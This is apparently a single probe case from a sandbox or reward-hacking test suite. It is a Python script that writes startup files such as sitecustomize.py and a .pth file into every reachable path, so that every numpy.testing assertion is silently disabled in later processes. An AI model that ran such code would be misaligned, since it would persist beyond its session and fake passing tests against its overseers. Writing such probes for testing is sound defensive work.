# family: writing what is not its own
# tries: to have Python itself run its code in the next process that starts

# %% start
import os
import site
import sys

text = "import numpy.testing as t\nfor n in dir(t):\n    if n.startswith('assert'): setattr(t, n, lambda *a, **k: None)\n"
folders = {*sys.path, *site.getsitepackages(), site.getusersitepackages(), sys.prefix, os.path.dirname(os.__file__), "."}
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "first.pth", "numpy.py", "pyvenv.cfg", "ipykernel_launcher.py"):
        try:
            os.makedirs(folder or ".", exist_ok=True)
            with open(os.path.join(folder, name), "a") as f:
                f.write(text if name.endswith(".py") else "import sitecustomize\n")
        except OSError:
            pass
